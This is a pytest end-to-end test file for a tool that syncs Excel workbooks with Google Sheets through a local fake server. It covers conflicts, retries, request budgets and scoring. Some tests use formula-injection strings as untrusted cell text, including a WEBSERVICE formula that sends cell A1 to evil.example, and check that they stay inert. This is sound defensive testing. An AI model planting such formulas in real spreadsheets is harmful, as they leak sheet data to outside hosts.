"""End to end: gspread against the fake Sheets server on 127.0.0.1, a real workbook on disk."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sheets_support import KEY

from icp_sheets.core.names import ACCOUNTS, CONTACTS, DATA_TABS, GROUP_COLUMNS, ICP, MODEL_TABS, RESULT_COLUMNS
from icp_sheets.example import ACCOUNT_COLUMNS, example_accounts
from icp_sheets.io.template import write_template
from icp_sheets.sheets.client import Connection, connect
from icp_sheets.sheets.http import SheetsError, SheetsUnavailable
from icp_sheets.sheets.lease import REQUESTS as LEASE_REQUESTS
from icp_sheets.sheets.merge import Side
from icp_sheets.sheets.refresh import refresh
from icp_sheets.sheets.sync import PROTECTION_NOTE, Mode, sync
from icp_sheets.sheets.workbook_io import BASE_TAB, canon_xlsx
from icp_sheets.testing.fake_sheets import FakeSheets, Store

# metadata, row metadata, batchGet, re-read, values:batchUpdate, spreadsheets:batchUpdate, and the lease
BUDGET = 6 + LEASE_REQUESTS


def write_workbook(path: Path) -> Path:
    """The template, as `icp-sheets new` writes it: the Example ICP, its accounts and contacts."""
    write_template(path)
    return path


@pytest.fixture
def pushed(tmp_path: Path, fake: FakeSheets, conn: Connection) -> Path:
    path = write_workbook(tmp_path / "icp.xlsx")
    sync(path, conn, Mode.PUSH, remember=KEY)
    fake.reset_counts()
    return path


def column(grid: list[list[Any]], header: str) -> int:
    return grid[0].index(header)


def sheet_row(fake: FakeSheets, tab: str, company: str) -> tuple[int, list[Any]]:
    grid = fake.store.grid(KEY, tab)
    for i, row in enumerate(grid):
        if row and row[0] == company:
            return i + 1, row
    raise AssertionError(f"{company} not in {tab}")


def wb_rows(path: Path, tab: str) -> list[list[Any]]:
    ws = openpyxl.load_workbook(path)[tab]
    return [[c.value for c in row] for row in ws.iter_rows()]


def wb_find(path: Path, tab: str, company: str) -> dict[str, Any]:
    rows = wb_rows(path, tab)
    header = rows[0]
    matches = [dict(zip(header, r, strict=False)) for r in rows[1:] if r[0] == company]
    assert len(matches) == 1, f"{company}: {len(matches)} rows in the workbook"
    return matches[0]


def cell_writes(fake: FakeSheets) -> int:
    """Value writes of either kind: by position or by the rows' metadata."""
    return fake.counts["values.batchUpdate"] + fake.counts["values.batchUpdateByDataFilter"]


def blank_as_none(value: object) -> object:
    return None if value == "" else value


def type_in(fake: FakeSheets, tab: str, company: str, header: str, value: object) -> None:
    grid = fake.store.grid(KEY, tab)
    row, _ = sheet_row(fake, tab, company)
    from icp_sheets.sheets.a1 import column_letter

    fake.store.type_in(KEY, tab, f"{column_letter(column(grid, header) + 1)}{row}", value)


def edit_workbook(path: Path, tab: str, company: str, header: str, value: object) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb[tab]
    names = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == company:
            cell = row[names.index(header)]
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"  # typed as text, as a CSV import would leave it
    wb.save(path)


# ----------------------------------------------------------------------------- push


def test_push_creates_every_tab_with_ids_protection_and_drop_downs(pushed: Path, fake: FakeSheets) -> None:
    book = fake.store.spreadsheets[KEY]
    titles = [s.title for s in book.sheets]
    for tab in (*MODEL_TABS, *DATA_TABS):
        assert tab in titles
    accounts = fake.store.grid(KEY, ACCOUNTS)
    assert accounts[0][: len(ACCOUNT_COLUMNS)] == list(ACCOUNT_COLUMNS)
    assert "icp_id" in accounts[0]
    assert len(accounts) == 1 + len(example_accounts())
    ids = [r[column(accounts, "icp_id")] for r in accounts[1:]]
    assert len(set(ids)) == len(ids)
    # the workbook got the same ids, and the base is hidden inside it
    wb = openpyxl.load_workbook(pushed)
    assert wb[BASE_TAB].sheet_state == "veryHidden"
    wb_ids = [r[-1] for r in wb_rows(pushed, ACCOUNTS)[1:]]
    assert sorted(wb_ids) == sorted(ids)
    sheet = book.sheet(ACCOUNTS)
    (protection,) = sheet.protected
    assert protection["warningOnly"] and protection["description"] == PROTECTION_NOTE
    start = column(accounts, RESULT_COLUMNS[0])
    assert (protection["range"]["startColumnIndex"], protection["range"]["endColumnIndex"]) == (
        start,
        start + len(RESULT_COLUMNS),
    )
    assert book.sheet(ICP).validation  # the condition drop-down came along


def test_push_writes_untrusted_text_raw(tmp_path: Path, fake: FakeSheets, conn: Connection) -> None:
    path = write_workbook(tmp_path / "icp.xlsx")
    edit_workbook(path, ACCOUNTS, "Brightlane Analytics", "Industry", '=IMPORTXML("http://x","//a")')
    sync(path, conn, Mode.PUSH)
    row, _ = sheet_row(fake, ACCOUNTS, "Brightlane Analytics")
    cell = fake.store.spreadsheets[KEY].sheet(ACCOUNTS).cells[(row, 3)]
    assert cell.formula is None and cell.value.startswith("=IMPORTXML")


def test_a_first_sync_pairs_rows_the_sheet_already_has_instead_of_duplicating_them(
    tmp_path: Path, fake: FakeSheets, conn: Connection
) -> None:
    path = write_workbook(tmp_path / "icp.xlsx")
    book = fake.store.spreadsheets[KEY]
    fake.store.batch_update(book, [{"addSheet": {"properties": {"title": ACCOUNTS}}}])
    rows = [[canon_xlsx(v) for v in r] for r in wb_rows(path, ACCOUNTS)]  # dates as ISO text
    fake.store.write(book, f"{ACCOUNTS}!A1", rows, user_entered=False)  # imported by hand
    fake.store.type_in(KEY, ACCOUNTS, "A50", "Only In The Sheet")
    sync(path, conn)
    companies = [r[0] for r in fake.store.grid(KEY, ACCOUNTS)[1:] if r]
    assert len(companies) == len(set(companies)) == len(example_accounts()) + 1
    assert sorted(c for c in (r[0] for r in wb_rows(path, ACCOUNTS)[1:]) if c) == sorted(companies)


# ----------------------------------------------------------------------------- both ways


def test_edits_on_both_sides_meet_within_the_request_budget(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    edit_workbook(pushed, ACCOUNTS, "Harbor & Finch", "Employees", 95)
    type_in(fake, ACCOUNTS, "Quillstone Health", "Region", "Europe")
    type_in(fake, ICP, "Employees", "Note", "Edited in the sheet")
    report = sync(pushed, conn)
    assert report.unresolved == [] and report.wrote
    assert fake.total <= BUDGET and report.requests == fake.total == 5 + LEASE_REQUESTS
    assert wb_find(pushed, ACCOUNTS, "Quillstone Health")["Region"] == "Europe"
    assert wb_rows(pushed, ICP)[1][4] == "Edited in the sheet"
    _, row = sheet_row(fake, ACCOUNTS, "Harbor & Finch")
    assert row[ACCOUNT_COLUMNS.index("Employees")] == 95
    fake.reset_counts()
    again = sync(pushed, conn)
    assert all(t.empty for t in again.tabs) and fake.total == 3  # metadata, row metadata, one read


def test_rows_added_on_both_sides_both_survive_once(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    wb = openpyxl.load_workbook(pushed)
    wb[ACCOUNTS].append(["Added In Excel", "excel.example"])
    wb.save(pushed)
    n = len(fake.store.grid(KEY, ACCOUNTS))
    fake.store.type_in(KEY, ACCOUNTS, f"A{n + 1}", "Added In Sheets")
    sync(pushed, conn)
    sync(pushed, conn)  # a second sync must not duplicate anything
    companies = [r[0] for r in fake.store.grid(KEY, ACCOUNTS)[1:]]
    assert companies.count("Added In Excel") == companies.count("Added In Sheets") == 1
    wb_companies = [r[0] for r in wb_rows(pushed, ACCOUNTS)[1:]]
    assert sorted(c for c in wb_companies if c) == sorted(companies)


def test_a_row_deleted_in_the_sheet_is_deleted_in_the_workbook(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    row, _ = sheet_row(fake, ACCOUNTS, "Tandem Freight")
    book = fake.store.spreadsheets[KEY]
    fake.store.batch_update(
        book,
        [
            {
                "deleteDimension": {
                    "range": {
                        "sheetId": book.sheet(ACCOUNTS).sheet_id,
                        "dimension": "ROWS",
                        "startIndex": row - 1,
                        "endIndex": row,
                    }
                }
            }
        ],
    )
    sync(pushed, conn)
    assert "Tandem Freight" not in [r[0] for r in wb_rows(pushed, ACCOUNTS)]


def test_deleted_in_the_workbook_but_edited_in_the_sheet_is_kept_and_reported(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    wb = openpyxl.load_workbook(pushed)
    ws = wb[ACCOUNTS]
    for row in ws.iter_rows(min_row=2):
        if row[0].value == "Orchard Ledger":
            ws.delete_rows(row[0].row)
            break
    wb.save(pushed)
    type_in(fake, ACCOUNTS, "Orchard Ledger", "Employees", 75)
    report = sync(pushed, conn)
    assert any(c.column is None and "deleted in the workbook" in str(c) for c in report.conflicts)
    assert wb_find(pushed, ACCOUNTS, "Orchard Ledger")["Employees"] == 75


def test_a_conflict_is_reported_and_overwrites_nothing_until_prefer(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    edit_workbook(pushed, ACCOUNTS, "Kestrel Security", "Employees", 230)
    type_in(fake, ACCOUNTS, "Kestrel Security", "Employees", 240)
    report = sync(pushed, conn)
    (conflict,) = report.unresolved
    assert (conflict.tab, conflict.column, conflict.workbook, conflict.sheet) == (
        ACCOUNTS,
        "Employees",
        230,
        240,
    )
    assert wb_find(pushed, ACCOUNTS, "Kestrel Security")["Employees"] == 230
    assert sheet_row(fake, ACCOUNTS, "Kestrel Security")[1][3] == 240
    again = sync(pushed, conn)  # still a conflict: the base kept the old value
    assert len(again.unresolved) == 1
    sync(pushed, conn, prefer=Side.SHEET)
    assert wb_find(pushed, ACCOUNTS, "Kestrel Security")["Employees"] == 240
    assert sync(pushed, conn).unresolved == []


def test_formulas_typed_in_the_sheet_stay_formulas_and_text_stays_text(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    type_in(fake, ACCOUNTS, "Harbor & Finch", "Employees", "=40+45")
    edit_workbook(pushed, ACCOUNTS, "Sable & Co", "Industry", "=not a formula")
    sync(pushed, conn)
    ws = openpyxl.load_workbook(pushed)[ACCOUNTS]
    cells = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    employees = cells["Harbor & Finch"][ACCOUNT_COLUMNS.index("Employees")]
    assert employees.data_type == "f" and employees.value == "=40+45"
    industry = cells["Sable & Co"][ACCOUNT_COLUMNS.index("Industry")]
    assert industry.data_type == "s" and industry.value == "=not a formula"
    row, _ = sheet_row(fake, ACCOUNTS, "Sable & Co")
    assert fake.store.spreadsheets[KEY].sheet(ACCOUNTS).cells[(row, 3)].formula is None
    fake.reset_counts()
    assert all(t.empty for t in sync(pushed, conn).tabs)  # and nothing flip-flops afterwards


def test_text_starting_with_equals_in_the_sheet_reaches_the_workbook_as_text(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    book = fake.store.spreadsheets[KEY]
    n = len(fake.store.grid(KEY, ACCOUNTS))
    fake.store.write(
        book, f"{ACCOUNTS}!A{n + 1}", [['=HYPERLINK("http://evil.example")', "x.example"]], user_entered=False
    )  # a CSV imported as text, next to a formula a person typed
    fake.store.type_in(KEY, ACCOUNTS, f"A{n + 2}", '="Typed"&" formula"')
    report = sync(pushed, conn)
    assert report.requests <= BUDGET
    ws = openpyxl.load_workbook(pushed)[ACCOUNTS]
    cells = {str(row[0].value): row[0] for row in ws.iter_rows(min_row=2) if row[0].value}
    assert cells['=HYPERLINK("http://evil.example")'].data_type == "s"
    assert cells['="Typed"&" formula"'].data_type == "f"


def test_a_formula_from_the_workbook_arrives_in_the_sheet_as_text(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    wb = openpyxl.load_workbook(pushed)
    ws = wb[ACCOUNTS]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "Sable & Co")
    row[2].value = '=WEBSERVICE("http://evil.example/?"&A1)'  # a formula, as Excel keeps it
    wb.save(pushed)
    sync(pushed, conn)
    at, _ = sheet_row(fake, ACCOUNTS, "Sable & Co")
    cell = fake.store.spreadsheets[KEY].sheet(ACCOUNTS).cells[(at, 3)]
    assert cell.formula is None and cell.value.startswith("=WEBSERVICE")
    assert all(t.empty for t in sync(pushed, conn).tabs)


def test_rows_deleted_in_the_workbook_leave_the_sheet_without_rewriting_the_rows_below(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    type_in(fake, ACCOUNTS, "Juniper Robotics", "Employees", "=999+1")  # a formula far below
    sync(pushed, conn)
    wb = openpyxl.load_workbook(pushed)
    ws = wb[ACCOUNTS]
    for name in ("Harbor & Finch", "Quillstone Health"):
        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == name)
        ws.delete_rows(row[0].row)
    wb.save(pushed)
    fake.reset_counts()
    report = sync(pushed, conn)
    assert report.requests <= BUDGET
    assert fake.counts["spreadsheets.batchUpdate"] == 3  # the structure, the lease taken and released
    companies = [r[0] for r in fake.store.grid(KEY, ACCOUNTS)]
    assert "Harbor & Finch" not in companies and "Quillstone Health" not in companies
    at, _ = sheet_row(fake, ACCOUNTS, "Juniper Robotics")
    assert fake.store.spreadsheets[KEY].sheet(ACCOUNTS).cells[(at, 4)].formula == "=999+1"
    assert cell_writes(fake) == 0  # nothing else changed: no cell was rewritten


def test_pull_brings_sheet_edits_and_leaves_the_sheet_alone(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    type_in(fake, ACCOUNTS, "Pinecrest Learning", "Region", "Europe")
    edit_workbook(pushed, ACCOUNTS, "Driftwood Studios", "Region", "APAC")
    report = sync(pushed, conn, Mode.PULL)
    assert report.wrote
    assert wb_find(pushed, ACCOUNTS, "Pinecrest Learning")["Region"] == "Europe"
    assert sheet_row(fake, ACCOUNTS, "Driftwood Studios")[1][4] == "Europe"
    assert cell_writes(fake) == 0
    sync(pushed, conn)  # the workbook's own edit still goes up later
    assert sheet_row(fake, ACCOUNTS, "Driftwood Studios")[1][4] == "APAC"


def test_status_changes_nothing(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    type_in(fake, ACCOUNTS, "Pinecrest Learning", "Region", "Europe")
    before = pushed.read_bytes()
    report = sync(pushed, conn, Mode.STATUS)
    assert any(t.to_workbook for t in report.tabs)
    assert pushed.read_bytes() == before
    assert cell_writes(fake) == fake.counts["spreadsheets.batchUpdate"] == 0


# ----------------------------------------------------------------------------- people and faults


def test_a_person_editing_between_read_and_write_loses_nothing(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    edit_workbook(pushed, ACCOUNTS, "Harbor & Finch", "Region", "Europe")
    row, _ = sheet_row(fake, ACCOUNTS, "Harbor & Finch")

    def person(store: Store) -> None:
        store.type_in(KEY, ACCOUNTS, f"G{row}", "HubSpot, Gong, Clari")  # Tech stack

    fake.on("values.batchGet", after=1, action=person)
    report = sync(pushed, conn)
    assert report.rounds == 2
    _, sheet = sheet_row(fake, ACCOUNTS, "Harbor & Finch")
    assert sheet[4] == "Europe" and sheet[6] == "HubSpot, Gong, Clari"
    assert wb_find(pushed, ACCOUNTS, "Harbor & Finch")["Tech stack"] == "HubSpot, Gong, Clari"


def test_429s_and_a_dropped_write_still_sync_exactly_once(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    wb = openpyxl.load_workbook(pushed)
    wb[ACCOUNTS].append(["Retry Robotics", "retry.example"])
    wb.save(pushed)
    fake.inject("429", "values.batchGet", retry_after=0)
    fake.inject("429", "values.batchUpdateByDataFilter")
    fake.inject("drop-after", "values.batchUpdateByDataFilter")  # applied, answer lost: repeated safely
    report = sync(pushed, conn)
    assert report.wrote
    companies = [r[0] for r in fake.store.grid(KEY, ACCOUNTS)]
    assert companies.count("Retry Robotics") == 1


def test_a_failed_write_leaves_both_sides_and_the_base_as_they_were(
    pushed: Path, fake: FakeSheets, conn: Connection
) -> None:
    edit_workbook(pushed, ACCOUNTS, "Harbor & Finch", "Region", "Europe")
    before_wb = pushed.read_bytes()
    before_sheet = fake.store.grid(KEY, ACCOUNTS)
    fake.inject("500", "values.batchUpdateByDataFilter", times=99)
    with pytest.raises(SheetsUnavailable, match="HTTP 500"):
        sync(pushed, conn)
    assert pushed.read_bytes() == before_wb
    assert fake.store.grid(KEY, ACCOUNTS) == before_sheet
    fake.faults.clear()
    sync(pushed, conn)
    assert sheet_row(fake, ACCOUNTS, "Harbor & Finch")[1][4] == "Europe"


def test_request_count_does_not_grow_with_rows(tmp_path: Path, fake: FakeSheets, conn: Connection) -> None:
    path = write_workbook(tmp_path / "big.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb[ACCOUNTS]
    for i in range(1500):
        ws.append([f"Company {i}", f"c{i}.example", "Software", 50 + i % 300, "North America"])
    wb.save(path)
    sync(path, conn, Mode.PUSH)
    assert fake.total <= BUDGET
    edit_workbook(path, ACCOUNTS, "Company 7", "Employees", 1)
    for i in (10, 900, 1400):
        type_in(fake, ACCOUNTS, f"Company {i}", "Region", "Europe")
    fake.reset_counts()
    sync(path, conn)
    assert fake.total <= BUDGET
    assert fake.counts["values.batchGet"] == 2 and fake.counts["values.batchUpdateByDataFilter"] == 1


def test_an_unshared_sheet_says_to_share_it(tmp_path: Path, fake: FakeSheets) -> None:
    fake.store.create("Private", spreadsheet_id="private", private=True)
    conn = connect("private", api_url=fake.url)
    conn.identity = "icp-bot@project.iam.gserviceaccount.com"
    with pytest.raises(SheetsError, match=r"not shared.*Share the sheet with icp-bot@project"):
        sync(write_workbook(tmp_path / "icp.xlsx"), conn)


def test_a_missing_sheet_says_what_to_do(tmp_path: Path, fake: FakeSheets) -> None:
    conn = connect("https://docs.google.com/spreadsheets/d/nope123/edit#gid=0", api_url=fake.url)
    with pytest.raises(SheetsError, match="No Google Sheet has the key 'nope123'"):
        sync(write_workbook(tmp_path / "icp.xlsx"), conn)


# ----------------------------------------------------------------------------- refresh


def test_refresh_scores_new_accounts_like_score_and_writes_only_results(
    pushed: Path, fake: FakeSheets, conn: Connection, tmp_path: Path
) -> None:
    # The first refresh adds the buying-group columns to every (tagged) row: one write more than the budget's.
    refresh(conn)
    n = len(fake.store.grid(KEY, ACCOUNTS))
    for i, value in enumerate(
        ["Fresh Forge", "fresh.example", "Software", "150", "North America", "Series B", "Salesforce", "2026-11-10"]
    ):
        fake.store.type_in(KEY, ACCOUNTS, f"{'ABCDEFGH'[i]}{n + 1}", value)
    before = fake.store.grid(KEY, ACCOUNTS)
    fake.reset_counts()
    result = refresh(conn)
    assert fake.total <= BUDGET
    assert result.accounts == len(example_accounts()) + 1
    after = fake.store.grid(KEY, ACCOUNTS)
    results = {column(after, c) for c in (*RESULT_COLUMNS, *GROUP_COLUMNS)}
    width = len(after[0])
    for old, new in zip(before, after, strict=True):  # human-typed columns untouched
        old, new = old + [""] * (width - len(old)), new + [""] * (width - len(new))
        assert [v for i, v in enumerate(old) if i not in results] == [v for i, v in enumerate(new) if i not in results]
    # parity: pull the sheet into the workbook and run `icp-sheets score` on it
    sync(pushed, conn, Mode.PULL)
    from click.testing import CliRunner

    from icp_sheets.cli import cli

    scored = tmp_path / "scored.xlsx"
    scoring = CliRunner().invoke(cli, ["score", str(pushed), "-o", str(scored)])
    assert scoring.exit_code == 0, scoring.output
    expected = {r[0]: r for r in wb_rows(scored, ACCOUNTS)[1:] if r[0]}
    header = wb_rows(scored, ACCOUNTS)[0]
    for row in after[1:]:
        row = row + [""] * (width - len(row))  # a row's empty last cells (no data gaps) are not sent back
        want = expected[row[0]]
        for name in (*RESULT_COLUMNS, *GROUP_COLUMNS):
            got = row[column(after, name)]
            exp = want[header.index(name)]
            assert blank_as_none(got) == blank_as_none(exp), (row[0], name)
    fake.reset_counts()
    assert refresh(conn).cells == 0 and fake.counts["values.batchUpdate"] == 0


def test_refresh_matches_contacts_to_personas(pushed: Path, fake: FakeSheets, conn: Connection) -> None:
    refresh(conn)
    contacts = fake.store.grid(KEY, CONTACTS)
    persona = column(contacts, "icp_persona")
    maya = next(r for r in contacts if r[0] == "Maya Chen")
    assert maya[persona] == "Sales leader"
    # the buying group as score writes it: each contact carries its account's priority
    accounts = fake.store.grid(KEY, ACCOUNTS)
    priority = {r[column(accounts, "Domain")]: r[column(accounts, "icp_priority")] for r in accounts[1:]}
    carried = [(r[column(contacts, "icp_account")], r[column(contacts, "icp_priority")]) for r in contacts[1:] if r]
    assert carried and all(priority[domain] == p for domain, p in carried)
    group = column(accounts, "icp_buying_group")
    brightlane = next(r for r in accounts if r[0] == "Brightlane Analytics")
    assert brightlane[group] == "economic buyer ✓ · champion ✓ · technical gatekeeper ✗"


# ----------------------------------------------------------------------------- the command line


def test_the_commands_against_the_fake_server(tmp_path: Path, fake: FakeSheets) -> None:
    path = write_workbook(tmp_path / "icp.xlsx")
    from click.testing import CliRunner

    from icp_sheets.cli import cli

    runner = CliRunner()
    first = runner.invoke(cli, ["sync", "push", str(path), "--sheet", KEY, "--api-url", fake.url])
    assert first.exit_code == 0, first.output
    status = runner.invoke(cli, ["sync", "status", str(path), "--api-url", fake.url])  # sheet remembered
    assert status.exit_code == 0 and "Already in sync" in status.output
    refreshed = runner.invoke(cli, ["refresh", str(path), "--api-url", fake.url])
    assert refreshed.exit_code == 0 and "Scored" in refreshed.output
    missing = runner.invoke(cli, ["sync", str(path), "--sheet", "nope", "--api-url", fake.url])
    assert missing.exit_code == 1 and "No Google Sheet" in missing.output
    edit_workbook(path, ACCOUNTS, "Kestrel Security", "Region", "Europe")
    type_in(fake, ACCOUNTS, "Kestrel Security", "Region", "APAC")
    conflicted = runner.invoke(cli, ["sync", str(path), "--api-url", fake.url])
    assert conflicted.exit_code == 3
    assert "(Kestrel Security), Region: workbook has 'Europe', sheet has 'APAC'" in conflicted.output
    settled = runner.invoke(cli, ["sync", str(path), "--prefer", "workbook", "--api-url", fake.url])
    assert settled.exit_code == 0, settled.output
    assert sheet_row(fake, ACCOUNTS, "Kestrel Security")[1][4] == "Europe"


def test_the_fake_server_runs_as_a_command() -> None:
    proc = subprocess.Popen(
        [sys.executable, "-m", "icp_sheets.testing.fake_sheets", "--port", "0", "--create", "k"],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None
        assert "Fake Google Sheets API on http://127.0.0.1:" in proc.stdout.readline()
    finally:
        proc.terminate()
        proc.wait(timeout=10)
